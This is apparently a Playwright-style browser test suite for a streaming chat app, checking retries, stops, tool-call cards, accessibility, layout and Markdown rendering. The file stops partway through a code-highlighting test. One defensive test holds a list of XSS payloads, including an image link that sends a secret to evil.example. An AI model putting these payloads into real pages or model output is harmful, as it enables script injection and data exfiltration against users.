// Drives the built app in Chromium against mock providers. Where Chromium is not installed, only CI fails.
import assert from 'node:assert/strict';
import { mkdirSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { encodeEventStream, streamChatCompletions, toServerSentEvents } from 'rxjs-chat-completions';
import { startMockProvider } from 'rxjs-chat-completions/mock-provider';
import { checks } from '../../../scripts/checks.mjs';
import { demoAnswer } from '../src/demo/answers.mjs';
import { chromiumPath, drawn, eventually, gate, openChat, pieces, startChromium } from './browser.mjs';
import { startStaticServer } from './static-server.mjs';

if (chromiumPath === undefined) {
  console.log('Chromium is not installed: the chat was not driven.');
  process.exit(process.env.CI === 'true' ? 1 : 0);
}

/** Runs the tests alone that have this in their names: `npm test -- keyboard`. */
const only = process.argv[2];
const { check, finish } = checks();
const server = await startStaticServer();
const chromium = await startChromium();

/** A named test with a page of its own. No script error and no refusal of the policy passes. */
async function test(name, options, run) {
  if (only !== undefined && !name.includes(only)) return;
  await check(name, async () => {
    const chat = await openChat(chromium.browser, server, options);
    try {
      await run(chat);
      assert.deepEqual(chat.problems, []);
    } finally {
      await chat.close();
    }
  });
}

const until = (page, what, argument) => page.waitForFunction(what, argument);
const textIs = (locator, text) =>
  locator.filter({ hasText: new RegExp(`^\\s*${text}\\s*$`) }).waitFor({ timeout: 20_000 });
const button = (page, name) => page.getByRole('button', { name, exact: true });
const focused = (page) =>
  page.evaluate(() => document.activeElement?.getAttribute('aria-label') ?? document.activeElement?.id);

/** Keeps what the live region says. */
async function listen(page) {
  await page.evaluate(() => {
    window.said = [];
    const region = document.querySelector('app-live-region');
    new MutationObserver(() => window.said.push(region.textContent.trim())).observe(region, {
      childList: true,
      characterData: true,
      subtree: true,
    });
  });
  return () => page.evaluate(() => window.said);
}

await test(
  '2,000 tokens at full speed: change detection runs once a frame at the most',
  { answers: [{ content: Array.from({ length: 2_000 }, (_, index) => `w${index} `) }] },
  async ({ page, ask, answers }) => {
    await page.evaluate(() => {
      performance.clearMarks();
      window.frames_ = 0;
      const count = () => {
        window.frames_ += 1;
        requestAnimationFrame(count);
      };
      requestAnimationFrame(count);
      window.longTasks = 0;
      new PerformanceObserver((list) => (window.longTasks += list.getEntries().length)).observe({
        type: 'longtask',
      });
    });
    await ask('Count');
    await button(page, 'Regenerate').waitFor();
    assert.match(await answers.innerText(), /^w0 w1 .* w1999\s/);
    const { renders, frames, longTasks } = await page.evaluate(() => ({
      renders: performance.getEntriesByName('chat: render').length,
      frames: window.frames_,
      longTasks: window.longTasks,
    }));
    console.log(`      2000 tokens, ${renders} renders, ${frames} frames, ${longTasks} tasks over 50 ms`);
    // Typing, sending, the end and the conversation's name are renders of their own.
    assert.ok(renders <= frames + 10, `${renders} renders in ${frames} frames`);
    assert.ok(renders < 500, `${renders} renders`);
  },
);

const rest = gate();
await test(
  'tokens are shown as they come, Markdown in blocks that stay',
  { answers: [{ content: pieces('# One\n\nHel', rest.opened, 'lo **you**') }] },
  async ({ page, ask, answers }) => {
    await ask('Hi');
    await textIs(answers.locator('p').first(), 'Hel');
    await answers.locator('h3').evaluate((heading) => (heading.isTheSame = true));
    assert.equal(await page.locator('article').getAttribute('aria-busy'), 'true');
    rest.open();
    await textIs(answers.locator('p').first(), 'Hello you');
    await textIs(answers.locator('strong'), 'you');
    assert.ok(await answers.locator('h3').evaluate((heading) => heading.isTheSame));
    await button(page, 'Regenerate').waitFor();
    assert.equal(await page.locator('article').getAttribute('aria-busy'), 'false');
  },
);

await test(
  'stopping reaches the provider, keeps the text, and the next question sends it along',
  { answers: [{ content: ['Hel', { wait: Infinity }] }, { content: 'Again' }] },
  async ({ page, ask, answers, provider, asked }) => {
    await ask('First');
    await textIs(answers.locator('p').first(), 'Hel');
    await button(page, 'Stop').click();
    await provider.whenAborted();
    await page.getByText('You stopped this answer.').waitFor();
    assert.equal(await answers.locator('p').first().innerText(), 'Hel');
    assert.equal(await focused(page), 'Send');
    await ask('Second');
    await textIs(answers.nth(1).locator('p').first(), 'Again');
    const [, second] = asked();
    assert.deepEqual(
      second.body.messages.map(({ role, content }) => [role, content]),
      [
        ['system', 'Answer shortly, in Markdown.'],
        ['user', 'First'],
        ['assistant', 'Hel'],
        ['user', 'Second'],
      ],
    );
  },
);

await test(
  'the wait for a retry is counted down, and not read aloud',
  {
    answers: [{ status: 429, retryAfter: { wait: 30_000 } }, { content: 'Here.' }],
    prepare: (page) => page.clock.install(),
  },
  async ({ page, ask, answers, asked }) => {
    const said = await listen(page);
    await ask('Hi');
    const seconds = page.getByRole('timer');
    await seconds.waitFor();
    await page.clock.pauseAt(await page.evaluate(() => Date.now() + 1_000));
    // What the last tick has changed is drawn.
    await page.clock.runFor(100);
    const first = parseInt(await seconds.innerText(), 10);
    assert.ok(first > 20 && first <= 30, `${first} s`);
    await page.clock.runFor(10_000);
    await eventually(async () => parseInt(await seconds.innerText(), 10), first - 10);
    assert.equal(asked().length, 1);
    await page.clock.resume();
    await page.clock.fastForward(first * 1_000);
    await textIs(answers.locator('p').first(), 'Here\\.');
    assert.equal(asked().length, 2);
    await button(page, 'Regenerate').waitFor();
    assert.equal(await page.getByRole('timer').count(), 0);
    await eventually(said, [
      'Answering.',
      'The server is busy. The question is asked again.',
      'Answer: Here.',
    ]);
  },
);

await test(
  'a stop during that wait sends nothing more',
  { answers: [{ status: 503, retryAfter: { wait: 60_000 } }] },
  async ({ page, ask, asked }) => {
    await ask('Hi');
    await page.getByRole('timer').waitFor();
    await page.keyboard.press('Escape');
    await page.getByText('You stopped this answer.').waitFor();
    assert.equal(await page.getByRole('timer').count(), 0);
    assert.equal(asked().length, 1);
  },
);

const broken = gate();
await test(
  'a connection that breaks keeps the text, and trying again replaces it',
  {
    answers: [
      { content: pieces('Half an ', broken.opened, { cut: 'reset' }) },
      { content: 'A whole answer.' },
    ],
  },
  async ({ page, ask, answers, asked }) => {
    const said = await listen(page);
    await ask('Hi');
    // A reset may overtake what the browser has not read yet.
    await textIs(answers.locator('p').first(), 'Half an');
    broken.open();
    await page.getByText('The connection broke').first().waitFor();
    assert.match(await answers.innerText(), /^Half an\s/);
    await eventually(said, [
      'Answering.',
      'The connection broke. The answer ended too early. What had arrived is kept.',
    ]);
    await button(page, 'Try again').click();
    await textIs(answers.locator('p').first(), 'A whole answer\\.');
    assert.equal(await focused(page), 'question');
    assert.equal(await answers.count(), 1);
    assert.deepEqual(asked()[1].body.messages, asked()[0].body.messages);
  },
);

await test(
  'a page that is offline asks again, says so in the end, and recovers when it is told to',
  { answers: [{ content: 'Back.' }] },
  async ({ page, context, ask, answers }) => {
    await context.setOffline(true);
    await ask('Hi');
    await button(page, 'Try again').waitFor();
    await page.getByText('The server cannot be reached').first().waitFor();
    await context.setOffline(false);
    await button(page, 'Try again').click();
    await textIs(answers.locator('p').first(), 'Back\\.');
  },
);

await test(
  'an answer that is under way when the page goes offline is an error that keeps the text',
  { answers: [{ content: ['Half an ', { wait: Infinity }] }, { content: 'A whole answer.' }] },
  async ({ page, context, ask, answers }) => {
    await ask('Hi');
    await textIs(answers.locator('p').first(), 'Half an');
    await context.setOffline(true);
    await page.getByText('The connection broke').first().waitFor();
    assert.match(await answers.innerText(), /^Half an\s/);
    await context.setOffline(false);
    await button(page, 'Try again').click();
    await textIs(answers.locator('p').first(), 'A whole answer\\.');
  },
);

await test(
  'a status that is not retried is told in the words of a user',
  { answers: [{ status: 401 }] },
  async ({ page, ask, asked }) => {
    await ask('Hi');
    await page.getByText("You don't have access to this model").first().waitFor();
    assert.equal(asked().length, 1);
  },
);

const attack = [
  '<img src=x onerror="window.pwned=1">',
  '<script>window.pwned=1</script>',
  '<svg onload="window.pwned=1"><a xlink:href="javascript:window.pwned=1">svg</a></svg>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<p style="position:fixed;inset:0" class="card error" id="question" onclick="window.pwned=1">over it all</p>',
  '<form action="https://evil.example"><input name=q><button>go</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=1">',
  '[click](javascript:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>) [good](https://good.example/)',
  '![carry](https://evil.example/?q=secret)',
  '<code>unfinished <img src=x onerror="window.pwned=1" ',
  '```html"onload="window.pwned=1\n<img src=x onerror="window.pwned=1">\n```',
].join('\n\n');
const nested = (mark, times) => `${mark.repeat(times)}deep\n\nend`;

await test(
  'Markdown that is nested without end is text from the 16th level on, and loses nothing',
  {
    answers: [
      nested('- ', 2_000),
      nested('> ', 2_000),
      nested('> - ', 2_000),
      `${Array.from({ length: 500 }, (_, level) => `${'  '.repeat(level)}- l${level}`).join('\n')}\n\nend`,
      nested('**', 500),
      nested('[', 5_000),
      nested('*a', 5_000),
      `${'a '.repeat(10_000)}\n\nend`,
    ].map((content) => ({ content: [content] })),
  },
  async ({ page, ask, answers }) => {
    for (let turn = 0; turn < 8; turn += 1) {
      await ask('Nest');
      const answer = answers.nth(turn);
      await textIs(answer.locator('p').last(), 'end');
      await button(page, 'Regenerate').waitFor();
      const deepest = await answer.locator('.markdown').evaluate((root) => {
        const depthOf = (node) => 1 + Math.max(0, ...Array.from(node.children, depthOf));
        return depthOf(root);
      });
      // A level of a list is two elements.
      assert.ok(deepest < 40, `answer ${turn} is ${deepest} elements deep`);
    }
    assert.match(await answers.nth(3).innerText(), /l499/);
    assert.equal((await answers.nth(6).innerText()).match(/a/g).length, 5_000);
  },
);

await test(
  'hostile Markdown is inert: no script, no image, no style, no request',
  { answers: [{ content: attack }] },
  async ({ page, context, ask, answers, problems, provider }) => {
    const requests = new Set();
    context.on('request', (request) => requests.add(request.url()));
    await ask('Attack');
    await button(page, 'Regenerate').waitFor();
    const found = await answers.locator('.markdown').evaluate((element) => {
      const all = [...element.querySelectorAll('*')];
      return {
        pwned: 'pwned' in window,
        elements: [...new Set(all.map(({ localName }) => localName))].sort(),
        attributes: [...new Set(all.flatMap((one) => one.getAttributeNames()))].sort(),
        links: [...element.querySelectorAll('a')].map(({ href, rel }) => [href, rel]),
      };
    });
    assert.deepEqual(found, {
      pwned: false,
      elements: ['a', 'button', 'code', 'figcaption', 'figure', 'p', 'pre', 'span'],
      attributes: ['dir', 'href', 'rel', 'tabindex', 'target', 'type'],
      links: [
        ['https://good.example/', 'noopener noreferrer nofollow'],
        ['https://evil.example/?q=secret', 'noopener noreferrer nofollow'],
      ],
    });
    for (const link of await answers.locator('p', { hasText: 'over it all' }).all()) await link.click();
    assert.equal(await page.evaluate(() => 'pwned' in window), false);
    // Chromium may load the page's icon at any time.
    requests.delete(new URL('favicon.svg', page.url()).href);
    assert.deepEqual([...requests], [`${provider.baseUrl}/chat/completions`]);
    assert.deepEqual(problems, []);
  },
);

await test(
  'HTML is shown as text, except for inline tags without attributes',
  {
    answers: [
      { content: 'H<sub>2</sub>O<br>is a Promise<string>\n\n<a title="&lt;">&amp;</a>\n\n<div>**x**</div>' },
    ],
  },
  async ({ page, ask, answers }) => {
    await ask('Hi');
    await button(page, 'Regenerate').waitFor();
    assert.deepEqual(
      await answers.locator('.markdown > p').evaluateAll((all) => all.map(({ innerHTML }) => innerHTML)),
      [
        'H<sub>2</sub>O<br>is a Promise&lt;string&gt;',
        '&lt;a title="&amp;lt;"&gt;&amp;&lt;/a&gt;',
        '&lt;div&gt;<strong>x</strong>&lt;/div&gt;',
      ],
    );
  },
);

const [args, done] = [gate(), gate()];
await test(
  'a tool call is a card that grows, its tool runs, and the model is told',
  {
    answers: [
      {
        content: pieces(
          { reasoning: 'I need a clock.' },
          {
            delta: {
              tool_calls: [
                {
                  index: 0,
                  id: 'c1',
                  type: 'function',
                  function: { name: 'local_time', arguments: '{"time_' },
                },
              ],
            },
          },
          args.opened,
          { delta: { tool_calls: [{ index: 0, function: { arguments: 'zone":"Asia/Tokyo"}' } }] } },
        ),
        finishReason: 'tool_calls',
      },
      { content: pieces('It is ', done.opened, 'late.') },
    ],
  },
  async ({ page, ask, answers, asked }) => {
    const said = await listen(page);
    await ask('What time is it in Tokyo?');
    const card = page.getByRole('region', { name: 'Tool local_time' });
    await card.getByText('{\n  "time_').waitFor();
    assert.equal(await card.locator('.state').innerText(), 'Writing…');
    args.open();
    await card.getByText('Done').waitFor();
    assert.equal(await card.locator('pre').innerText(), '{\n  "time_zone": "Asia/Tokyo"\n}');
    const output = (await card.locator('.output').innerText()).replace(/^Result:\s*/, '');
    assert.match(output, /\d{4}\D.*\d\d:\d\d/);
    done.open();
    await answers.getByText('It is late.').waitFor();
    const [first, second] = asked();
    assert.equal(first.body.tools[0].function.name, 'local_time');
    assert.deepEqual(
      second.body.messages
        .slice(2)
        .map(({ role, content, tool_calls: calls }) => [role, calls?.[0].function.arguments ?? content]),
      [
        ['assistant', '{"time_zone":"Asia/Tokyo"}'],
        ['tool', output],
      ],
    );
    await button(page, 'Regenerate').waitFor();
    await eventually(said, ['Answering.', 'Answer: It is late.']);
  },
);

await test(
  'a tool that fails is told to the model, and nothing breaks',
  {
    answers: [
      {
        content: [
          { toolCall: { name: 'local_time', arguments: '{"time_zone": ' } },
          { toolCall: { name: 'unknown' } },
        ],
      },
      { content: 'I cannot tell.' },
    ],
  },
  async ({ page, ask, answers, asked }) => {
    await ask('Time?');
    await answers.getByText('I cannot tell.').waitFor();
    const outputs = asked()[1].body.messages.filter(({ role }) => role === 'tool');
    assert.match(outputs[0].content, /not JSON/);
    assert.match(outputs[1].content, /no tool of this name.*local_time/);
    assert.equal(await page.getByText('Failed').count(), 2);
  },
);

await test(
  'reasoning is folded until it is opened, by keyboard too',
  { answers: [{ content: [{ reasoning: 'First I think.' }, 'Then I answer.'] }] },
  async ({ page, ask, answers }) => {
    await ask('Hi');
    await answers.getByText('Then I answer.').waitFor();
    assert.equal(await page.getByText('First I think.').isVisible(), false);
    await page.locator('summary').focus();
    await page.keyboard.press('Enter');
    await page.getByText('First I think.').waitFor({ state: 'visible' });
  },
);

await test(
  'keyboard alone: write two lines, send, stop, ask again, change colours, start anew',
  { answers: [{ content: ['Hel', { wait: Infinity }] }, { content: 'Hello.' }] },
  async ({ page, answers, asked, question }) => {
    const tabTo = async (name) => {
      for (let presses = 0; presses < 20; presses += 1) {
        const label = await page.evaluate(() => {
          const { activeElement: element } = document;
          return element?.getAttribute('aria-label') ?? element?.textContent?.trim();
        });
        if (label === name) return;
        await page.keyboard.press('Tab');
      }
      assert.fail(`${name} is not reached by Tab`);
    };
    assert.equal(await focused(page), 'question');
    await page.keyboard.type('One');
    await page.keyboard.press('Shift+Enter');
    await page.keyboard.type('Two');
    assert.equal(await question.inputValue(), 'One\nTwo');
    await page.keyboard.press('Enter');
    await textIs(answers.locator('p').first(), 'Hel');
    assert.equal(asked()[0].body.messages.at(-1).content, 'One\nTwo');
    assert.equal(await question.inputValue(), '');
    await page.keyboard.press('Escape');
    await page.getByText('You stopped this answer.').waitFor();
    await tabTo('Regenerate');
    await page.keyboard.press('Enter');
    await textIs(answers.locator('p').first(), 'Hello\\.');
    assert.equal(await focused(page), 'question');
    await tabTo('Theme: system');
    await page.keyboard.press('Enter');
    await until(page, () => document.documentElement.dataset.theme === 'light');
    await tabTo('New chat');
    await page.keyboard.press('Enter');
    await page.getByText('What would you like to know?').waitFor();
    assert.equal(await focused(page), 'question');
  },
);

await test(
  'Enter that ends the composition of a word does not send',
  {},
  async ({ page, question, asked }) => {
    await question.fill('にほん');
    await question.dispatchEvent('keydown', {
      key: 'Enter',
      isComposing: true,
      bubbles: true,
      cancelable: true,
    });
    await drawn(page);
    assert.equal(await question.inputValue(), 'にほん');
    assert.equal(await page.locator('article').count(), 0);
    assert.equal(asked().length, 0);
  },
);

await test(
  'the live region says that an answer begins and what it was, and nothing in between',
  { answers: [{ content: Array.from({ length: 200 }, () => 'word ') }], pace: 2 },
  async ({ page, ask, answers }) => {
    const said = await listen(page);
    await ask('Hi');
    await button(page, 'Regenerate').waitFor();
    await eventually(said, ['Answering.', 'The answer is there: 200 words.']);
    assert.equal(
      await answers.evaluate((element) => element.closest('[aria-live], [role=log], [role=status]')),
      null,
    );
  },
);

await test(
  'the name of the conversation comes from a turn of its own, after the first answer',
  { answers: [{ content: 'One.' }, { content: 'Two.' }] },
  async ({ page, ask, answers, provider }) => {
    await ask('Hi');
    await page.getByRole('heading', { level: 1, name: 'A name for it' }).waitFor();
    await until(page, () => document.title === 'A name for it · Chat');
    await ask('And?');
    await answers.getByText('Two.').waitFor();
    await button(page, 'Regenerate').waitFor();
    await drawn(page);
    assert.equal(provider.requests.length, 3);
  },
);

await test(
  'HttpClient as the transport: interceptors run, tokens stream, a stop reaches the provider',
  {
    answers: [{ status: 429, retryAfter: { wait: 100 } }, { content: ['Grüße 👋 ', { wait: Infinity }] }],
    settings: { 'chat-connection': 'http-client' },
  },
  async ({ page, ask, answers, asked, provider }) => {
    await ask('Hi');
    await textIs(answers.locator('p').first(), 'Grüße 👋');
    assert.deepEqual(
      asked().map(({ headers }) => headers['x-requested-with']),
      ['chat-in-angular', 'chat-in-angular'],
    );
    await page.keyboard.press('Escape');
    await provider.whenAborted();
    await page.getByText('You stopped this answer.').waitFor();
  },
);

const brokenOver = gate();
await test(
  'HttpClient as the transport: error statuses, breaks and redirects are what they are over fetch',
  {
    answers: [
      { status: 401, error: { message: 'No.', code: 'invalid_api_key' } },
      { content: pieces('Half an ', brokenOver.opened, { cut: 'reset' }) },
      { status: 307, headers: { location: '/v1/chat/completions' } },
      { content: 'A whole answer.' },
    ],
    settings: { 'chat-connection': 'http-client' },
  },
  async ({ page, ask, answers, asked }) => {
    await ask('Hi');
    await page.getByText("You don't have access to this model").first().waitFor();
    await button(page, 'Try again').click();
    await textIs(answers.locator('p').first(), 'Half an');
    brokenOver.open();
    await page.getByText('The connection broke').first().waitFor();
    assert.match(await answers.innerText(), /^Half an\s/);
    await button(page, 'Try again').click();
    await page.getByText('The server cannot be reached').first().waitFor();
    assert.equal(asked().length, 3);
    await button(page, 'Try again').click();
    await textIs(answers.locator('p').first(), 'A whole answer\\.');
    assert.equal(asked().length, 4);
  },
);

await test(
  'fetch as the transport: interceptors do not run',
  { answers: [{ content: 'Hi.' }] },
  async ({ ask, answers, asked }) => {
    await ask('Hi');
    await answers.getByText('Hi.').waitFor();
    assert.equal(asked()[0].headers['x-requested-with'], undefined);
  },
);

await test(
  'answers scripted in the page: text, a tool, a stop, and nothing is asked',
  { settings: { 'chat-connection': 'scripted' } },
  async ({ page, ask, answers, asked }) => {
    await ask('What time is it in Tokyo?');
    await answers.getByText('In Tokyo it is now').waitFor();
    await ask('Why is the sky blue?');
    await answers.getByText('Sunlight').waitFor();
    await button(page, 'Stop').click();
    await page.getByText('You stopped this answer.').waitFor();
    assert.deepEqual(asked(), []);
  },
);

let isAtTop = false;
const more = gate();
await test(
  'a reader who has scrolled away is left there, and can return',
  {
    answers: [
      {
        content: (async function* () {
          for (let line = 0; !isAtTop; line += 1) yield `Line ${line}\n\n`;
          yield 'Held.\n\n';
          await more.opened;
          for (let line = 0; line < 40; line += 1) yield `More ${line}\n\n`;
          yield { wait: Infinity };
        })(),
      },
    ],
    pace: 5,
  },
  async ({ page, ask }) => {
    await ask('Hi');
    const main = page.locator('main');
    await until(page, () => document.querySelector('main').scrollTop > 200);
    await main.hover();
    // The browser animates it, while lines come. What has begun to be followed in the same frame may cut it short, once.
    await page.mouse.wheel(0, -100_000);
    await button(page, 'Latest').waitFor();
    const top = () => main.evaluate(({ scrollTop }) => scrollTop);
    for (let turns = 0; (await top()) > 0 && turns < 500; turns += 1) {
      await page.mouse.wheel(0, -1_000);
      await drawn(page);
    }
    assert.equal(await top(), 0);
    isAtTop = true;
    await page.getByText('Held.').waitFor({ state: 'attached' });
    more.open();
    await page.getByText('More 39').waitFor({ state: 'attached' });
    await drawn(page);
    assert.equal(await main.evaluate(({ scrollTop }) => scrollTop), 0);
    await button(page, 'Latest').click();
    await button(page, 'Latest').waitFor({ state: 'detached' });
    await until(page, () => {
      const { scrollHeight, scrollTop, clientHeight } = document.querySelector('main');
      return scrollHeight - scrollTop - clientHeight < 1;
    });
  },
);

for (const [what, wish] of Object.entries({
  'a wheel': (main) => main.dispatchEvent(new WheelEvent('wheel', { deltaY: -1 })),
  'a finger': (main) => {
    const touch = (type, clientY) =>
      main.dispatchEvent(
        new TouchEvent(type, { touches: [new Touch({ identifier: 1, target: main, clientY })] }),
      );
    touch('touchstart', 100);
    touch('touchmove', 101);
  },
  'a key': (main) => main.dispatchEvent(new KeyboardEvent('keydown', { key: 'PageUp' })),
})) {
  const after = gate();
  await test(
    `${what} that asks to scroll up ends the following, before anything has scrolled`,
    {
      answers: [
        {
          content: pieces(
            ...Array.from({ length: 60 }, (_, line) => `Line ${line}\n\n`),
            after.opened,
            ...Array.from({ length: 20 }, (_, line) => `More ${line}\n\n`),
            'End',
          ),
        },
      ],
    },
    async ({ page, ask }) => {
      await ask('Hi');
      const main = page.locator('main');
      await page.getByText('Line 59').waitFor();
      await drawn(page);
      const before = await main.evaluate(({ scrollTop }) => scrollTop);
      assert.ok(before > 200);
      await main.evaluate(wish);
      await button(page, 'Latest').waitFor();
      after.open();
      await page.getByText('End', { exact: true }).waitFor({ state: 'attached' });
      await drawn(page);
      assert.equal(await main.evaluate(({ scrollTop }) => scrollTop), before);
    },
  );
}

const phone = { viewport: { width: 390, height: 844 } };
/** Whether nothing makes the page wider than it is, and where it scrolls sideways inside. */
const overflow = (page) =>
  page.evaluate(() => [
    document.documentElement.scrollWidth > innerWidth,
    ...[...document.querySelectorAll('main, header.bar, .bottom, .question, .answer')]
      .filter((element) => element.getBoundingClientRect().right > innerWidth + 1)
      .map(({ className, localName }) => `${localName}.${className}`),
  ]);
const longQuestion = [
  'I have a service that answers thousands of requests a minute, and now and again one of them takes ten seconds.',
  `The address is https://example.com/${'a-very-long-path/'.repeat(12)}?token=${'x'.repeat(300)}`,
  'Where would you look first, what would you measure, and what would you leave alone until you knew more?',
].join('\n\n');

await test(
  'a long question fits a phone, and so does its name in the bar',
  {
    context: phone,
    answers: [{ content: `Look at \`${'y'.repeat(200)}\`.` }],
    name: () => ({ content: '' }),
  },
  async ({ page, ask, answers }) => {
    await ask(longQuestion);
    await answers.getByText('Look at').waitFor();
    await button(page, 'Regenerate').waitFor();
    assert.deepEqual(await overflow(page), [false]);
    assert.equal(
      await page.locator('.question .text').evaluate(({ textContent }) => textContent),
      longQuestion,
    );
    const [bubble, text] = await page
      .locator('.question, .question .text')
      .evaluateAll((all) =>
        all.map((one) => one.getBoundingClientRect()).map(({ left, width }) => [left, width]),
      );
    assert.ok(bubble[0] >= 0 && text[1] > 200, `${bubble} ${text}`);
  },
);

await test(
  'a question is shown as it was asked, with no space after it',
  { answers: [{ content: 'Yes.' }] },
  async ({ page, ask }) => {
    await ask('  Is  it?\nReally? ');
    await button(page, 'Regenerate').waitFor();
    const shown = await page.locator('.question').evaluate((question) => question.textContent);
    assert.equal(shown, 'You asked: Is  it?\nReally?');
  },
);

await test(
  'a wide table scrolls in its own frame, breaks no word, and keeps its alignment',
  {
    context: phone,
    answers: [
      {
        content: [
          '| internationalisation | documentation | n | authentication |\n|:---|:-:|---:|---|\n',
          '| internationalisation | documentation | 12,480 | authentication |\n\n',
          '4. A list that begins at four.',
        ].join(''),
      },
    ],
  },
  async ({ page, ask, answers }) => {
    await ask('Wide');
    await button(page, 'Regenerate').waitFor();
    assert.deepEqual(await overflow(page), [false]);
    const frame = answers.locator('.table');
    const { scrolls, align, lines } = await frame.evaluate((element) => ({
      scrolls: element.scrollWidth > element.clientWidth,
      align: [...element.querySelectorAll('th, td')].map((cell) => getComputedStyle(cell).textAlign),
      lines: [...element.querySelectorAll('th, td')].map((cell) => {
        const range = document.createRange();
        range.selectNodeContents(cell);
        return range.getClientRects().length;
      }),
    }));
    assert.ok(scrolls);
    assert.deepEqual(
      lines,
      Array.from({ length: 8 }, () => 1),
    );
    const kinds = align.map((one) => /left|center|right|start/.exec(one)?.[0].replace('left', 'start'));
    assert.deepEqual(kinds, ['start', 'center', 'right', 'start', 'start', 'center', 'right', 'start']);
    assert.equal(await answers.locator('ol').getAttribute('start'), '4');
    await frame.focus();
    await page.keyboard.press('ArrowRight');
    await until(page, () => document.querySelector('.table').scrollLeft > 0);
  },
);

await test(
  'the composer forgets what it has sent, even where input and Enter come at once',
  { answers: [{ content: 'Here.' }] },
  async ({ page, question, answers }) => {
    await question.evaluate((field) => {
      field.value = 'Quick';
      field.dispatchEvent(new Event('input', { bubbles: true }));
      field.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, cancelable: true }));
    });
    await answers.getByText('Here.').waitFor();
    assert.equal(await question.inputValue(), '');
    await page.getByRole('heading', { level: 2, name: 'Quick' }).waitFor();
  },
);

await test(
  'the up arrow in an empty composer brings the last question back, and is an arrow in any other',
  { answers: [{ content: 'One.' }, { content: 'Two.' }] },
  async ({ page, ask, question, answers, asked }) => {
    await question.press('ArrowUp');
    assert.equal(await question.inputValue(), '');
    await ask('First');
    await answers.getByText('One.').waitFor();
    await question.press('ArrowUp');
    assert.equal(await question.inputValue(), 'First');
    await question.fill('Draft');
    await question.press('ArrowUp');
    assert.equal(await question.inputValue(), 'Draft');
    await question.fill('');
    await question.press('ArrowUp');
    await page.keyboard.type(' again');
    await page.keyboard.press('Enter');
    await answers.getByText('Two.').waitFor();
    assert.equal(asked()[1].body.messages.at(-1).content, 'First again');
  },
);

await test(
  'Arabic reads from the right, in the question, the answer and the composer; code in it from the left',
  {
    answers: [
      {
        content: 'مرحبا بك.\n\n`npm` أداة.\n\n- واحد.\n- `two` اثنان.\n\nEnglish.\n\n```ts\nlet a = 1;\n```',
      },
    ],
  },
  async ({ page, ask, answers, question }) => {
    const directions = (locator) =>
      locator.evaluateAll((all) => all.map((one) => getComputedStyle(one).direction));
    await ask('كيف حالك؟');
    await button(page, 'Regenerate').waitFor();
    assert.deepEqual(await directions(page.locator('.question .text')), ['rtl']);
    assert.deepEqual(await directions(answers.locator('.markdown > *')), ['rtl', 'rtl', 'rtl', 'ltr', 'ltr']);
    assert.deepEqual(await directions(answers.locator('code')), ['ltr', 'ltr', 'ltr']);
    await question.fill('مرحبا.');
    assert.deepEqual(await directions(question), ['rtl']);
    // The full stop stands at the left end of its line.
    const isLeft = await answers
      .locator('.markdown > p')
      .first()
      .evaluate(({ firstChild: text }) => {
        const rectOf = (from, to) => {
          const range = document.createRange();
          range.setStart(text, from);
          range.setEnd(text, to);
          return range.getBoundingClientRect();
        };
        return rectOf(text.length - 1, text.length).left < rectOf(0, 1).left;
      });
    assert.ok(isLeft);
  },
);

await test(
  'tokens are those of all turns of the run',
  {
    answers: [
      {
        content: [{ toolCall: { name: 'local_time', arguments: { time_zone: 'Asia/Tokyo' } } }],
        usage: { prompt_tokens: 100, completion_tokens: 20, total_tokens: 120 },
      },
      { content: 'Late.', usage: { prompt_tokens: 200, completion_tokens: 3, total_tokens: 203 } },
    ],
  },
  async ({ page, ask }) => {
    await ask('Time?');
    await page.getByText('323 tokens', { exact: true }).waitFor();
  },
);

await test(
  'formulas keep their backslashes, while they come too, and lists of tasks have boxes alone',
  {
    answers: [
      {
        content: [
          'So \\(a_1 < b_1\\) and \\[x_1 \\\\ y_1\\] and $$z_1 \\\\ z_2$$, 5 * 3 and \\*.\n\n',
          '\\[\na_1 &= 1 \\\\\n- b_1 &= 2\n\\]\n\n',
          '- [x] one\n- [ ] **two**\n- three\n\nopen \\(c',
        ].join(''),
      },
    ],
  },
  async ({ page, ask, answers }) => {
    await ask('Prove');
    await button(page, 'Regenerate').waitFor();
    const shown = await answers.locator('.markdown').evaluate(({ textContent }) => textContent);
    assert.deepEqual(shown.trim().split(/\n+/), [
      'So \\(a_1 < b_1\\) and \\[x_1 \\\\ y_1\\] and $$z_1 \\\\ z_2$$, 5 * 3 and *.',
      '\\[',
      'a_1 &= 1 \\\\',
      '- b_1 &= 2',
      '\\]',
      'onetwothree',
      'open \\(c',
    ]);
    assert.deepEqual(
      await answers
        .locator('li')
        .evaluateAll((all) => all.map((item) => getComputedStyle(item).listStyleType)),
      ['none', 'none', 'disc'],
    );
    await answers.getByRole('img', { name: 'Done:' }).waitFor();
    await answers.getByRole('img', { name: 'To do:' }).waitFor();
  },
);

const source = 'const html: string = "<img src=x onerror=alert(1)>"; // <b>no</b>\n';
await test(
  'code is coloured in the languages in use, which are loaded when they are, and stays text',
  {
    answers: [
      { content: 'No code.' },
      {
        content: [
          '```ts\nconst a',
          ' = 1;\n```\n\n',
          '```ts\n',
          source,
          '```\n\n```html\n<a href="x">y</a>\n```',
        ],
      },
      { content: `\`\`\`ts\n${'let a = 1;\n'.repeat(2_000)}\`\`\`\n\n\`\`\`constructor\nx\n\`\`\`` },
    ],
  },
  async ({ page, ask, answers }) => {
    const scripts = () =>
      page.evaluate(
        () => performance.getEntriesByType('resource').filter(({ name }) => name.endsWith('.js')).length,
      );
    await ask('Hi');
    await button(page, 'Regenerate').waitFor();
    const before = await scripts();
    await ask('Code');
    await answers.nth(1).locator('.code-keyword', { hasText: 'const' }).nth(1).waitFor();
    await answers.nth(1).locator('.code-comment', { hasText: '// <b>no</b>' }).waitFor();
    await answers.nth(1).locator('.code-keyword', { hasText: /^a$/ }).first().waitFor();
    assert.ok((await scripts()) > before);
    const figures = answers.nth(1).locator('figure');
    assert.equal(
      await figures
        .nth(1)
        .locator('code')
        .evaluate(({ textContent }) => textContent),
      source,
    );
    assert.deepEqual(
      await figures
        .locator('code *')
        .evaluateAll((all) => [...new Set(all.map(({ localName }) => localName))]),
      ['span'],
    );
    assert.deepEqual(
      await figures
        .locator('code *')
        .evaluateAll((all) => [...new Set(all.flatMap((one) => one.getAttributeNames()))]),
      ['class'],
    );
